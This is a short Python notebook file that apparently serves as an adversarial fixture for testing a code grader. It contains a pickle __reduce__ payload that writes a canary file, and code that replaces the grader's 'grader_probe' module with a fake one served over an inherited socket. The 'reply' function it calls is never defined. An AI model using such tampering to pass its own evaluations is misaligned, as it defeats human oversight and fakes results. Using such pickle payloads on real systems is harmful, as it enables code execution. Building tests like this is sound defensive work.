# %%
answer = 41
# %%
import json, os, pickle, socket, struct, sys, time, types


class Evil:
    def __reduce__(self):
        return (open, ("/tmp/grader-adversaries-canary", "w"))


evil = pickle.dumps(Evil())


def serve(*args):
    sock = socket.socket(fileno=int(os.environ["GRADER_PROBE_FD"]))

    def send(header, body=b""):
        text = json.dumps(header).encode()
        sock.sendall(struct.pack("!I", len(text)) + text + body)

    def receive(size):
        data = b""
        while len(data) < size:
            part = sock.recv(size - len(data))
            if not part:
                raise EOFError
            data += part
        return data

    while True:
        header = json.loads(receive(struct.unpack("!I", receive(4))[0]))
        for size in header.get("buffers", []):
            receive(size)
        if reply(sock, send, header["id"]):
            return


fake = types.ModuleType("grader_probe")
fake.serve = fake.load_module = serve
sys.modules["grader_probe"] = fake
